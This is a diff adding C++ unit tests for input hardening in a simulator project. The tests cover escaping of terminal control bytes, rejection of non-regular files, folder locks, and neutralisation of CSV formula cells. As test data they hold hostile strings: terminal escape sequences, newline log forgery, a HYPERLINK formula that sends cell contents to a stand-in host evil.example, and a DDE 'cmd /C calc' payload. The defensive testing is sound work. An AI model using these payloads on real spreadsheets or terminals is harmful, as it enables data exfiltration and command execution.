@@ -1,4 +1,6 @@
-// common/output_file.h: atomic outputs, exclusive temporaries, output identity.
+// common/output_file.h: atomic outputs, exclusive temporaries, output identity; common/text.h (escaped echoes),
+// common/input_file.h (regular, bounded inputs), common/dir_lock.h (output folder locks) and the sweep CSV's formula
+// neutralisation (experiments/sweep.h).
 #include <gtest/gtest.h>
 #include <sys/stat.h>
 #include <sys/wait.h>
@@ -10,8 +12,13 @@
 #include <sstream>
 #include <string>
 
+#include "common/config.h"
+#include "common/dir_lock.h"
 #include "common/error.h"
+#include "common/input_file.h"
 #include "common/output_file.h"
+#include "common/text.h"
+#include "experiments/sweep.h"
 
 namespace fs = std::filesystem;
 using namespace shardsim;
@@ -39,6 +46,93 @@ size_t temporaries(const fs::path& dir) {
   size_t n = 0;
   for (const auto& e : fs::directory_iterator(dir)) n += e.path().filename().string().find(".partial") != std::string::npos;
   return n;
+}
+
+TEST(EscapeControl, ControlBytesBecomeHexAndTheResultIsOneInertLine) {
+  EXPECT_EQ(escape_control("\x1b]0;PWNED\a\x1b[2J64"), "\\x1b]0;PWNED\\x07\\x1b[2J64");
+  EXPECT_EQ(escape_control("64\nshardsim: forged\r\n"), "64\\x0ashardsim: forged\\x0d\\x0a");
+  EXPECT_EQ(escape_control(std::string("a\0b", 3)), "a\\x00b");
+  EXPECT_EQ(escape_control("tab\there\x7f"), "tab\\x09here\\x7f");
+  // UTF-8 text passes; C1 controls (U+009B is CSI on UTF-8 terminals) and invalid bytes do not.
+  EXPECT_EQ(escape_control("caf\xc3\xa9 \xe2\x86\x92 \xf0\x9f\x98\x80"), "caf\xc3\xa9 \xe2\x86\x92 \xf0\x9f\x98\x80");
+  EXPECT_EQ(escape_control("\xc2\x9b" "2J"), "\\xc2\\x9b2J");
+  EXPECT_EQ(escape_control("\x9b\xff\xc3"), "\\x9b\\xff\\xc3");
+  EXPECT_EQ(escape_control("\xed\xa0\x80"), "\\xed\\xa0\\x80");  // a UTF-16 surrogate is not UTF-8
+  const std::string once = escape_control("x\x1by\n");
+  EXPECT_EQ(escape_control(once), once);  // idempotent: messages wrapped twice stay the same
+}
+
+TEST(EscapeControl, ConfigErrorsEscapeWhatTheyEcho) {
+  // The inputs: terminal escapes in an integer field, newlines forging a line, ESC in an unknown key.
+  const auto message = [](const std::string& yaml, const auto& read) -> std::string {
+    try {
+      read(ConfigNode::load_string(yaml, "f.yaml"));
+    } catch (const ConfigError& e) {
+      return e.what();
+    }
+    return "no error";
+  };
+  const auto get_hidden = [](const ConfigNode& n) { (void)n.get_int("hidden"); };
+  EXPECT_EQ(message("hidden: \"\\e]0;PWNED\\a\\e[2J64\"\n", get_hidden),
+            "f.yaml:1: hidden: expected an integer, got '\\x1b]0;PWNED\\x07\\x1b[2J64'");
+  EXPECT_EQ(message("hidden: \"64\\nshardsim: forged\"\n", get_hidden),
+            "f.yaml:1: hidden: expected an integer, got '64\\x0ashardsim: forged'");
+  const std::string unknown = message("\"k\\e[31m\": 1\n", [](const ConfigNode& n) { n.expect_keys({"hidden"}); });
+  EXPECT_NE(unknown.find("unknown key 'k\\x1b[31m'"), std::string::npos) << unknown;
+  EXPECT_EQ(unknown.find('\x1b'), std::string::npos);
+}
+
+TEST(InputFile, NotARegularFileIsSaidBeforeAnyWork) {
+  Scratch s;
+  { std::ofstream(s / "a.txt") << "hello"; }
+  fs::create_directory(s / "d");
+  ASSERT_EQ(::mkfifo((s / "fifo").c_str(), 0600), 0);
+  EXPECT_EQ(not_a_regular_file(s / "a.txt"), "");
+  EXPECT_EQ(not_a_regular_file(s / "missing"), "");
+  EXPECT_EQ(not_a_regular_file(s / "d"), "is a directory");
+  EXPECT_NE(not_a_regular_file(s / "fifo").find("is not a regular file"), std::string::npos);
+  EXPECT_NE(not_a_regular_file("/dev/zero").find("is not a regular file"), std::string::npos);
+}
+
+TEST(DirLock, ASecondHolderIsRefusedNamingTheFirst) {
+  Scratch s;
+  {
+    DirLock first(s.dir.string(), "sweep a.yaml");
+    try {
+      DirLock second(s.dir.string(), "sweep b.yaml");
+      ADD_FAILURE() << "two locks on one folder";
+    } catch (const UsageError& e) {
+      const std::string m = e.what();
+      EXPECT_NE(m.find("is in use by another command (pid " + std::to_string(::getpid())), std::string::npos) << m;
+      EXPECT_NE(m.find("sweep a.yaml"), std::string::npos) << m;
+    }
+  }
+  DirLock again(s.dir.string(), "sweep b.yaml");  // released with its holder
+}
+
+TEST(SweepCsv, FormulaCellsAreNeutralisedAndReadBack) {
+  using sharding::csv_cell;
+  using sharding::csv_uncell;
+  for (const std::string v : {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd", "-2+3", "@SUM(A1)",
+                              "\tx", "\rx", "=1", "'=x", "''+y"}) {
+    EXPECT_EQ(csv_cell(v), "'" + v) << v;
+    EXPECT_EQ(csv_uncell(csv_cell(v)), v) << v;
+  }
+  for (const std::string v : {"-1.5", "+2", "-1e-3", "ring8", "", "'quoted", "a=b"}) {
+    EXPECT_EQ(csv_cell(v), v) << v;
+    EXPECT_EQ(csv_uncell(csv_cell(v)), v) << v;
+  }
+  sharding::Row row;
+  for (const auto& c : sharding::result_columns()) row[c] = "";
+  row["key"] = "k";
+  row["topology"] = "=cmd|' /C calc'!A0";
+  row["sim_time_us"] = "-0.5";
+  const std::string text = sharding::csv_header() + sharding::csv_row(row);
+  EXPECT_NE(text.find(",'=cmd|' /C calc'!A0,"), std::string::npos) << text;
+  EXPECT_NE(text.find(",-0.5,"), std::string::npos) << text;
+  const auto rows = sharding::parse_csv(text, "r.csv");
+  ASSERT_EQ(rows.size(), 1u);
+  EXPECT_EQ(rows[0].at("topology"), "=cmd|' /C calc'!A0");
 }
 
 }  // namespace
